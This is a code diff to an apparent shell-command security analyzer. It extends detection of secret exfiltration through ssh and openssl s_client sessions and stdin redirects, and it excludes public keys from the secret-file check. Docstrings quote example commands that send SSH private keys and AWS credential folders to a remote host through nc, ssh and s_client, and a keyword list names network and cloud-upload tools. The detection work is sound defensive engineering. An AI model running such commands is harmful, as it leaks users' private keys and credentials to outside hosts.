@@ -239,7 +239,7 @@ _WORDS = ("curl", "wget", "nc ", "ncat", "scp", "rsync", "eval", "base64", "| sh
           "reflog", "push", "DROP ", "drop ", "dropdb", "pg_restore", "mongorestore", "printf",
           "powershell", "pwsh", "node", "gs://", "s3://", "blob.core.windows.net",
           "storage blob upload", "aws s3", "gsutil", "gcloud storage", "az storage", "gh api",
-          "gh issue", "gh pr", "rclone", "s3cmd", "azcopy")  # fmt: skip
+          "gh issue", "gh pr", "rclone", "s3cmd", "azcopy", "s_client", "ssh ")  # fmt: skip
 
 
 def _worth(text: str) -> bool:
@@ -342,7 +342,7 @@ def _command_labels(
     texts = [a.text or "" for a in args]
     carried = piped.union(*(_as_data(a, i, texts, name) for i, a in enumerate(args)))
     labels: set[str] = set()
-    if name in _READERS and any(sensitive.is_sensitive_path(t) for t in texts):
+    if name in _READERS and any(_secret_file(t) for t in texts):
         state.fact(SECRET_READ, node, f"{name} {' '.join(texts)[:120]}")
         labels.add(SECRET)
     if name in _ENV and not args:
@@ -554,6 +554,7 @@ def _sink(name: str, texts: list[str], carried: frozenset[str], node: Any, state
     sending = (
         (name in _FETCHERS and _sends(texts))
         or name in _NET_SENDERS
+        or (_remote_session(name, texts) and bool(carried & {SECRET, ENV_SECRET}))
         or (name == "rsync" and any(":" in t and "@" in t for t in texts))
         or name in _DNS
         or _publishes(name, texts)
@@ -600,9 +601,40 @@ def _pipeline(node: Any, state: _State) -> frozenset[str]:
         elif child.type == "redirected_statement":
             inner = [c for c in child.children if c.type == "command"]
             if inner:
-                carried = _command_labels(inner[0], state, carried)
+                carried = _command_labels(inner[0], state, carried | _stdin(child, state))
                 _keep_written(child, carried, state)
     return carried
+
+
+def _remote_session(name: str, texts: list[str]) -> bool:
+    """``ssh host …`` and ``openssl s_client -connect host:port``: what they are fed on standard
+    input goes to the other end; a session given nothing (``< /dev/null``) sends nothing."""
+    return name == "ssh" or (name == "openssl" and "s_client" in texts)
+
+
+def _secret_file(text: str) -> bool:
+    """A store whose contents are secret: a public key (``~/.ssh/id_ed25519.pub``), made to be
+    handed to servers and forges, is none."""
+    return sensitive.is_sensitive_path(text) and not text.rstrip("\"'").endswith(".pub")
+
+
+def _stdin(node: Any, state: _State) -> frozenset[str]:
+    """What a command reads on its standard input (``nc host 9 < ~/.ssh/id_rsa``, ``ssh host
+    'cat > x' < <(tar cz .aws)``, ``openssl s_client … < key``): a store, a file the script
+    wrote a secret into, or what a process substitution produces is what it sends."""
+    labels: set[str] = set()
+    for child in node.children:
+        if child.type != "file_redirect" or not any(c.type == "<" for c in child.children):
+            continue
+        for target in child.named_children:
+            if target.type == "process_substitution":
+                labels |= _substitution(target, state)
+            elif target.type in ("word", "string", "raw_string", "concatenation"):
+                text = _word(target, state).text or state.text(target).strip("\"'")
+                if _secret_file(text):
+                    labels.add(SECRET)
+                labels |= _file_labels([text], state)
+    return frozenset(labels)
 
 
 def _keep_written(node: Any, carried: frozenset[str], state: _State) -> None:
@@ -626,7 +658,7 @@ def _command_statement(node: Any, state: _State) -> None:
             else:
                 _walk(child, state)
         return
-    labels = _command_labels(command, state)
+    labels = _command_labels(command, state, _stdin(node, state))
     name, args, _ = _command_parts(command, state)
     texts = [a.text or "" for a in args]
     written = _written(name, texts, node, state)
